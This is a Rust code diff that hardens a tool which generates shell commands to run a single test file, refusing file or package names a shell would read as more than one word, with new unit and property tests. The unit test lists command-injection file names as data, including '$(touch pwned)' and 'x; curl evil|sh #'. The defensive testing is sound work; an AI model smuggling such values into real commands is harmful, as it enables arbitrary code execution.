@@ -5,6 +5,7 @@ use super::{Ecosystem, above, base, dotnet, file, native, ruby};
 use crate::domain::plan::pattern::Pattern;
 use crate::domain::plan::places::{self, Places};
 use crate::domain::plan::unfold;
+use crate::domain::plan::words;
 
 /// All that tells what to type.
 pub(super) struct Local<'a> {
@@ -27,14 +28,16 @@ static ANDROID: Pattern = Pattern::new(
 );
 
 impl Local<'_> {
-    /// What runs one test file, from the root.
+    /// What runs one test file, from the root. Names are whatever somebody chose, and people copy the line into a shell: one
+    /// with a name that a shell reads as more than a word is not told.
     pub(super) fn one(&self, path: &str) -> Option<String> {
-        let typed = self.typed(path)?;
+        let typed = words::is_typable(path).then(|| self.typed(path)).flatten()?;
         let set: String = self.set(path).iter().map(|(name, value)| format!("{name}={value} ")).collect();
-        Some(match typed.strip_prefix("cd ").and_then(|rest| rest.split_once(" && ")) {
+        let command = match typed.strip_prefix("cd ").and_then(|rest| rest.split_once(" && ")) {
             Some((folder, rest)) if !set.is_empty() => format!("cd {folder} && {set}{rest}"),
             _ => format!("{set}{typed}"),
-        })
+        };
+        words::is_inert(&command).then_some(command)
     }
 
     /// Of what the step sets, what the test itself reads.
@@ -52,7 +55,7 @@ impl Local<'_> {
             return native::script(self.places, path);
         }
         match self.ecosystem.manifests.first().copied().unwrap_or_default() {
-            "Cargo.toml" => Some(self.cargo(path)),
+            "Cargo.toml" => self.cargo(path),
             "package.json" => self.script(path),
             // Go itself runs no other files; a program of the repository may.
             "go.mod" if !path.ends_with("_test.go") => None,
@@ -62,6 +65,7 @@ impl Local<'_> {
             }),
             "pom.xml" => self.java(path),
             "global.json" => Some(match dotnet::project(self.places, path) {
+                Some(project) if !words::is_typable(project) => return None,
                 Some(project) => {
                     format!("dotnet test {project} --filter {}", places::stem(places::name(path)))
                 }
@@ -92,7 +96,7 @@ impl Local<'_> {
         above(path).find(|folder| names.iter().any(|name| self.places.has(&format!("{folder}/{name}"))))
     }
 
-    fn cargo(&self, path: &str) -> String {
+    fn cargo(&self, path: &str) -> Option<String> {
         let base = base(self.framework, "cargo test", "cargo nextest run");
         let features = match self.features {
             [] => String::new(),
@@ -100,12 +104,16 @@ impl Local<'_> {
         };
         let own = self.home(path, &["Cargo.toml"]);
         let inner = own.and_then(|folder| path.get(folder.len() + 1..)).unwrap_or(path);
-        let package = own.map_or(String::new(), |folder| {
+        let package = own.map(|folder| {
             let text = self.places.text(&format!("{folder}/Cargo.toml")).unwrap_or_default();
-            format!(" -p {}", NAME.first(text, 1).unwrap_or(places::name(folder)))
+            NAME.first(text, 1).unwrap_or(places::name(folder))
         });
         let manifest = places::within(own.unwrap_or_default(), "Cargo.toml");
         let declared = self.places.text(&manifest).and_then(|text| target(text, inner));
+        if !package.into_iter().chain(declared.as_deref()).all(words::is_typable) {
+            return None;
+        }
+        let package = package.map_or_else(String::new, |name| format!(" -p {name}"));
         // What lies beside a `main.rs` is a part of that target.
         let part = || {
             let (folder, file) = inner.strip_prefix("tests/")?.split_once('/')?;
@@ -117,7 +125,7 @@ impl Local<'_> {
             || part().unwrap_or_else(|| self.plain(inner)),
             |target| format!("{base} --test {target} {}", super::module(inner)),
         );
-        plain.replacen(base, &format!("{base}{package}{features}"), 1)
+        Some(plain.replacen(base, &format!("{base}{package}{features}"), 1))
     }
 
     fn java(&self, path: &str) -> Option<String> {
@@ -391,6 +399,55 @@ mod tests {
             },
         );
         tests.local.unwrap_or_else(|| "–".to_owned())
+    }
+
+    #[test]
+    fn a_name_that_a_shell_reads_as_more_than_a_word_gives_no_command() {
+        let none = |files: &[(&str, &str)], path: &str| assert_eq!(typed(files, path), "–", "{path}");
+        let hostile =
+            ["$(touch pwned)", "`id`;id", "x; curl evil|sh #", "a b", "a'b", "x&y", "x\ny", "-x", "*"];
+        for name in hostile {
+            let python = format!("tests/test_{name}.py");
+            let python = if name == "-x" { "tests/-x_test.py".to_owned() } else { python };
+            none(&[("pyproject.toml", ""), (&python, "def test_a(): pass\n")], &python);
+            let go = format!("{name}/a_test.go");
+            none(&[("go.mod", "module x\n"), (&go, "")], &go);
+            let script = format!("tests/{name}.test.js");
+            let manifest = r#"{"scripts": {"test": "vitest"}}"#;
+            none(&[("package.json", manifest), (&script, "")], &script);
+            let rust = format!("tests/{name}.rs");
+            none(&[("Cargo.toml", "[package]\nname = \"x\"\n"), (&rust, "#[test]\nfn a() {}\n")], &rust);
+            let manifest = format!("[package]\nname = \"{name}\"\n");
+            let files = [("x/Cargo.toml", manifest.as_str()), ("x/tests/a.rs", "#[test]\nfn a() {}\n")];
+            none(&files, "x/tests/a.rs");
+        }
+        let plain = "tests/test_a.py";
+        assert_eq!(
+            typed(&[("pyproject.toml", ""), (plain, "def test_a(): pass\n")], plain),
+            format!("pytest {plain}")
+        );
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
+
+        #[test]
+        fn nothing_of_a_file_name_is_active_in_a_shell(name in "[a-c $();|&<>#!*?'\"\\\\`~{}=-]{1,6}|\\PC{1,6}") {
+            let manifest = r#"{"scripts": {"test": "xo && mocha"}}"#;
+            let of = |manifest: (&str, &str), path: String| typed(&[manifest, (&path, "")], &path);
+            for typed in [
+                of(("pyproject.toml", ""), format!("tests/test_{name}.py")),
+                of(("go.mod", "module x\n"), format!("{name}/a_test.go")),
+                of(("package.json", manifest), format!("test/{name}.test.js")),
+                of(("Cargo.toml", ""), format!("tests/{name}.rs")),
+                of(("pom.xml", ""), format!("src/test/java/{name}Test.java")),
+                of(("Gemfile", "gem 'rspec'\n"), format!("spec/{name}_spec.rb")),
+                of(("global.json", ""), format!("{name}/ATest.cs")),
+            ] {
+                let active = |c: char| !c.is_ascii_alphanumeric() && !"._/@+=:,- –".contains(c);
+                proptest::prop_assert!(!typed.contains(active), "{}", typed);
+            }
+        }
     }
 
     #[test]
